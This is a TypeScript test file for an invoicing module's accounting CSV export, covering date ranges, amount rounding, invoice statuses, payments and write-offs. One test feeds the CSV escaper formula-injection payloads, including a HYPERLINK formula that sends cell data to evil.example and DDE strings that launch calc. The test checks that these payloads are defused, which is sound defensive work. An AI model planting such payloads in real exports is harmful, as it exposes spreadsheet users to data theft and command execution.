import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  addToSummary,
  amountCell,
  applicationRecord,
  documentRecord,
  emptySummary,
  EXPORT_COLUMNS,
  exportFilename,
  exportHeader,
  exportLine,
  periodRange,
  rangeProblem,
  writeOffRecord,
  type DocumentFacts,
} from '../../src/invoicing/accountingExport.rules';
import { csvCell } from '../../src/shared/csv.rules';

const invoice = (over: Partial<DocumentFacts> = {}): DocumentFacts => ({
  id: 'inv-1',
  kind: 'invoice',
  number: 'MR-2026-000001',
  issuedOn: '2026-11-01',
  accountId: 'acc-1',
  accountName: 'Acme GmbH',
  currency: 'USD',
  plan: 'postpaid',
  subtotal: '100.000000000000',
  taxAmount: '19.000000000000',
  total: '119.000000000000',
  amountDue: '119.000000000000',
  dueDate: '2026-12-01',
  invoiceId: null,
  invoiceNumber: null,
  reason: null,
  voidedByEnd: false,
  creditedByEnd: '0',
  paidByEnd: '0',
  writtenOffByEnd: false,
  ...over,
});

const parsed = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

describe('the range of an export', () => {
  it('turns a billing period into its first and last day', () => {
    expect(periodRange('2026-11')).toEqual({ from: '2026-11-01', to: '2026-11-30' });
    expect(periodRange('2028-02')).toEqual({ from: '2028-02-01', to: '2028-02-29' });
    expect(periodRange('2026-12')).toEqual({ from: '2026-12-01', to: '2026-12-31' });
    for (const bad of ['2026-13', '2026-1', '2026-11-01', '', 'x']) expect(periodRange(bad), bad).toBeNull();
  });

  it('takes at most 366 days, from not after to, real dates only', () => {
    expect(rangeProblem({ from: '2026-01-01', to: '2026-01-01' })).toBeNull();
    expect(rangeProblem({ from: '2028-01-01', to: '2028-12-31' })).toBeNull(); // 366 days
    expect(rangeProblem({ from: '2026-01-01', to: '2027-01-02' })).toMatch(/367 days; export at most 366/);
    expect(rangeProblem({ from: '2026-02-02', to: '2026-02-01' })).toMatch(/from must not be after to/);
    expect(rangeProblem({ from: '2026-02-30', to: '2026-03-01' })).toMatch(/dates YYYY-MM-DD/);
    expect(rangeProblem({ from: '2026-1-1', to: '2026-03-01' })).toMatch(/dates YYYY-MM-DD/);
  });

  it('names the file after the month, or the two days', () => {
    expect(exportFilename({ from: '2026-11-01', to: '2026-11-30' })).toBe('accounting-2026-11.csv');
    expect(exportFilename({ from: '2026-11-01', to: '2026-11-15' })).toBe('accounting-2026-11-01_2026-11-15.csv');
  });
});

describe('the lines of an export', () => {
  it('has one header of the documented columns, and every line has as many cells', () => {
    const header = exportHeader();
    expect(header).toBe(`${EXPORT_COLUMNS.join(',')}\n`);
    expect(EXPORT_COLUMNS.slice(0, 4)).toEqual(['record_type', 'record_id', 'number', 'date']);
    const lines = [
      exportLine(documentRecord(invoice(), '2026-11-30')),
      exportLine(applicationRecord({ id: 'ap', invoiceId: 'inv-1', invoiceNumber: 'MR-2026-000001', accountId: 'acc-1', accountName: 'A, "B"', currency: 'USD', amount: '1', receivedAmount: '1', source: 'bank_transfer', reference: 'R', paidOn: '2026-11-02', recordedBy: 'cli:x' })),
    ];
    const rows = parsed(header + lines.join(''));
    expect(rows).toHaveLength(2);
    for (const r of rows) expect(Object.keys(r)).toEqual([...EXPORT_COLUMNS]);
    expect(rows[1]!.account_name).toBe('A, "B"');
  });

  it('writes amounts to the cent, half-up, negative amounts as plain numbers', () => {
    expect(amountCell('119.000000000000', 'USD')).toBe('119.00');
    expect(amountCell('0.005', 'USD')).toBe('0.01');
    expect(amountCell('-119.004999', 'USD')).toBe('-119.00');
    expect(amountCell('1234.5', 'JPY')).toBe('1235');
    expect(amountCell(null, 'USD')).toBe('');
    const cn = documentRecord(
      invoice({ id: 'cn-1', kind: 'credit_note', number: 'CN-2026-000001', subtotal: '-100', taxAmount: '-19', total: '-119', amountDue: '-119', dueDate: null, invoiceId: 'inv-1', invoiceNumber: 'MR-2026-000001', reason: 'wrong rate (cli:x)' }),
      '2026-11-30',
    );
    const [row] = parsed(exportHeader() + exportLine(cn));
    expect(row).toMatchObject({ record_type: 'credit_note', number: 'CN-2026-000001', net: '-100.00', tax: '-19.00', total: '-119.00', amount_due: '-119.00', invoice_id: 'inv-1', invoice_number: 'MR-2026-000001', memo: 'wrong rate (cli:x)', status_at_period_end: '' });
  });

  it("gives an invoice its payment status on the export's last day", () => {
    const line = (over: Partial<DocumentFacts>, end = '2026-11-30') => parsed(exportHeader() + exportLine(documentRecord(invoice(over), end)))[0]!;
    expect(line({})).toMatchObject({ record_type: 'invoice', invoice_id: 'inv-1', invoice_number: 'MR-2026-000001', net: '100.00', tax: '19.00', total: '119.00', amount_due: '119.00', due_date: '2026-12-01', status_at_period_end: 'open', paid_at_period_end: '0.00', outstanding_at_period_end: '119.00' });
    expect(line({ paidByEnd: '50' })).toMatchObject({ status_at_period_end: 'partially_paid', paid_at_period_end: '50.00', outstanding_at_period_end: '69.00' });
    expect(line({ paidByEnd: '50' }, '2026-12-05')).toMatchObject({ status_at_period_end: 'overdue', outstanding_at_period_end: '69.00' });
    expect(line({ paidByEnd: '119' })).toMatchObject({ status_at_period_end: 'paid', outstanding_at_period_end: '0.00' });
    expect(line({ writtenOffByEnd: true, paidByEnd: '19' })).toMatchObject({ status_at_period_end: 'uncollectible', paid_at_period_end: '19.00', outstanding_at_period_end: '0.00' });
    expect(line({ voidedByEnd: true, creditedByEnd: '119' })).toMatchObject({ status_at_period_end: 'void' });
    // Prepaid invoices were paid with credits: no payment status.
    expect(line({ plan: 'prepaid', amountDue: '0' })).toMatchObject({ plan: 'prepaid', amount_due: '0.00', status_at_period_end: '', paid_at_period_end: '' });
  });

  it('writes an application with what it carried and what went to the account, and a write-off with its reason', () => {
    const ap = applicationRecord({ id: 'ap-1', invoiceId: 'inv-1', invoiceNumber: 'MR-2026-000001', accountId: 'acc-1', accountName: 'Acme', currency: 'USD', amount: '69.000000000000', receivedAmount: '100.000000000000', source: 'bank_transfer', reference: 'NL91-42', paidOn: '2026-11-03', recordedBy: 'staff:t1' });
    const wo = writeOffRecord({ invoiceId: 'inv-2', invoiceNumber: 'MR-2026-000002', accountId: 'acc-2', accountName: 'Gone Ltd', currency: 'USD', amount: '119', writtenOffOn: '2026-11-20', writtenOffBy: 'cli:x', reason: 'insolvent' });
    const [a, w] = parsed(exportHeader() + exportLine(ap) + exportLine(wo));
    expect(a).toMatchObject({ record_type: 'payment_application', record_id: 'ap-1', number: '', date: '2026-11-03', invoice_number: 'MR-2026-000001', amount: '69.00', received: '100.00', credited_to_account: '31.00', source: 'bank_transfer', reference: 'NL91-42', recorded_by: 'staff:t1', net: '', total: '' });
    expect(w).toMatchObject({ record_type: 'write_off', record_id: 'inv-2', date: '2026-11-20', invoice_id: 'inv-2', amount: '119.00', memo: 'insolvent', recorded_by: 'cli:x' });
  });

  it('defuses cells a spreadsheet would run as a formula, wherever they come from', () => {
    for (const v of ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|/C calc!A0', '-2+3+cmd|/C calc!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-', '=']) {
      expect(csvCell(v).replace(/^"/, '').startsWith("'"), JSON.stringify(v)).toBe(true);
    }
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('a=b')).toBe('a=b');
    const evil = documentRecord(invoice({ accountName: '=cmd|" /C calc"!A0, Inc' }), '2026-11-30');
    const line = exportLine(applicationRecord({ id: 'x', invoiceId: 'i', invoiceNumber: 'n', accountId: 'a', accountName: '@evil', currency: 'USD', amount: '1', receivedAmount: '1', source: 'stripe', reference: '-1+1', paidOn: '2026-11-01', recordedBy: '+x' }));
    const rows = parsed(exportHeader() + exportLine(evil) + line);
    expect(rows[0]!.account_name).toBe(`'=cmd|" /C calc"!A0, Inc`);
    expect(rows[1]).toMatchObject({ account_name: "'@evil", reference: "'-1+1", recorded_by: "'+x" });
  });

  it('keeps control totals per record type and currency', () => {
    const s = emptySummary();
    addToSummary(s, documentRecord(invoice(), '2026-11-30'));
    addToSummary(s, documentRecord(invoice({ id: 'b', total: '0.005' }), '2026-11-30'));
    addToSummary(s, applicationRecord({ id: 'x', invoiceId: 'i', invoiceNumber: 'n', accountId: 'a', accountName: 'n', currency: 'USD', amount: '10', receivedAmount: '12', source: 'stripe', reference: 'pi_1', paidOn: '2026-11-01', recordedBy: 'webhook:stripe' }));
    expect(s.invoice).toEqual({ records: 2, amounts: { USD: '119.01' } });
    expect(s.payment_application).toEqual({ records: 1, amounts: { USD: '10.00' } });
    expect(s.credit_note).toEqual({ records: 0, amounts: {} });
    expect(s.write_off).toEqual({ records: 0, amounts: {} });
  });
});
